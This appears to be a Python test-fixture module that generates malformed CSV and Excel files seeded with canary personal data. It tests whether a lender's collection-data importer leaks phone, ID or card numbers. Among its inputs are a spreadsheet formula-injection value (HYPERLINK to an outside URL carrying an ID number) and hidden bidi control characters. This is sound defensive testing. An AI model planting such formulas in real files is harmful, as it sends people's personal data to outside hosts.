"""Files, words and ways to break that are meant to carry personal values to where they must not be."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

from tests.leak.canaries import HEADERS, Customer, all_rows, write

Row = list[str]


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file and how it is asked to be loaded."""

    path: Path
    more: dict[str, object] = field(default_factory=dict)


def words_about(one: Customer) -> list[str]:
    """What somebody might type who should not: numbers in every spelling, a name and an address as people give them."""
    phone, number, card = one.mobiles[0], one.id_number, one.cards[0]
    spaced = f"{phone[:3]} {phone[3:7]} {phone[7:]}"
    full = phone.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    return [
        f"请打 {phone} 或 {spaced} 或 +86-{phone} 或 {full} 找本人",
        f"身份证 {number} {number.lower()} {number[:6]} {number[6:14]} {number[14:]} 卡 {card}",
        f"卡号 {' '.join(card[at : at + 4] for at in range(0, len(card), 4))}，邮箱 {one.email}，微信 {one.im}",
        f"联系人：{one.name} {one.home}",
    ]


def changed(rows: Sequence[Row], header: str, change: Callable[[str], str]) -> list[Row]:
    """The rows with one column changed."""
    place = HEADERS.index(header)
    return [[*row[:place], change(row[place]), *row[place + 1 :]] for row in rows]


def hostile_files(folder: Path, customers: Sequence[Customer]) -> Iterator[HostileFile]:
    """Every way a lender's file goes wrong, with personal values wherever something might quote them."""
    rows, one = all_rows(customers), customers[0]
    name = f"{one.name}_{one.id_number}_{one.mobiles[0]}".replace("/", "")

    def file(title: str, lines: Sequence[Row], headers: Sequence[str] = HEADERS, **more: object) -> HostileFile:
        return HostileFile(write(folder / f"{title}.csv", lines, headers), more)

    yield file(name, rows, (*HEADERS[:-1], "无人认得的列"))
    yield file("header", rows, (*HEADERS[:-1], f"{one.name}{one.mobiles[0]}"))
    mapped = f"备注{one.mobiles[0]}"
    yield file("mapped", [[*row, "x"] for row in rows[:3]], (*HEADERS, mapped), mapping={mapped: "-"}, dry_run=True)
    yield file("mapped too", [[*row, "x"] for row in rows[3:5]], (*HEADERS, mapped), dropped=(mapped,))
    yield file("no header", rows[1:], rows[0])
    yield file("ids", changed(rows, "身份证号码", lambda cell: f"{cell[:-1]}{'1' if cell[-1] != '1' else '2'}"))
    yield file("phones", changed(rows, "手机号码", lambda cell: cell + "7"))
    yield file("cards", changed(rows, "银行卡号", lambda cell: cell[:-1] + str((int(cell[-1]) + 1) % 10)))
    yield file("amounts", changed(rows, "应催金额", lambda _: one.mobiles[1]), accept_good=True)
    yield file("amounts by name", changed(rows, "应催金额", lambda _: one.name), accept_good=True)
    yield file("days", changed(rows, "逾期天数", lambda _: one.id_number))
    yield file("periods", changed(rows, "账单期", lambda _: one.cards[0]))
    yield file("periods by name", changed(rows, "账单期", lambda _: one.name[:10]))
    yield file("periods by phone", changed(rows, "账单期", lambda _: one.mobiles[0][:10]))
    yield file("products", [
        [*row[:24], f"P{nth}{row[24]}", row[25], f"{one.name} {one.mobiles[nth % 2]} {one.id_number}"[:60], *row[27:]]
        for nth, row in enumerate(all_rows(customers[4:6]))
    ])  # fmt: skip
    yield file("names", changed(rows, "客户姓名", lambda cell: cell + one.mobiles[0]))
    yield file("controls", changed(rows, "客户姓名", lambda cell: cell + "\u202e\x07"))
    yield file("formula", changed(rows, "单位名称", lambda _: f'=HYPERLINK("http://example.org/{one.id_number}")'))
    yield file("too long", changed(rows, "家庭住址", lambda cell: cell * 30))
    yield file("relations", changed(rows, "联系人1关系", lambda _: f"配偶{one.mobiles[0]}"), accept_good=True)
    yield file("shifted", [[*row[1:], row[0]] for row in rows], accept_good=True)
    yield file("ragged", [[*row, one.name, one.mobiles[0]] for row in rows])
    yield file("forbidden", [[*row, "123"] for row in rows], (*HEADERS, "CVV2"))
    yield file("contact lists", changed(rows, "单位地址", lambda _: f"{one.name}:{one.mobiles[0]} " * 9))
    yield file("other debtor", changed(rows, "客户姓名", lambda cell: cell[::-1]), accept_good=True)
    yield file("repaid", [[row[24], row[25], row[4], row[0]] for row in rows],
               ("借据号", "账单期", "还款金额", "还款日期"), kind="repayments")  # fmt: skip
    yield file("recalled", [[row[4], row[25]] for row in rows], ("借据号", "账单期"), kind="recalls")
    yield from _odd_files(folder, one, rows)


def _odd_files(folder: Path, one: Customer, rows: Sequence[Row]) -> Iterator[HostileFile]:
    text = "\n".join(",".join(row) for row in (HEADERS, *rows))
    for title, data in (
        ("mixed", text.encode("gb18030") + b"\n\xff\xfe" + text.encode()),
        ("cut", text.encode()[:-17]),
        ("quotes", text.replace(",", ',"', 40).encode()),
        ("binary", bytes(range(256)) + text.encode()),
        ("utf-16", text.encode("utf-16")),
    ):
        path = folder / f"{title}.csv"
        path.write_bytes(data)
        yield HostileFile(path)
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = f"{one.mobiles[0]}"
    sheet.append([one.name, one.id_number, one.home])
    book.create_sheet(f"客户{one.cards[1]}").append([one.email])
    book.save(folder / "sheets.xlsx")
    yield HostileFile(folder / "sheets.xlsx")
    yield HostileFile(folder / f"{one.mobiles[0]}-missing.csv")
    yield HostileFile(folder)
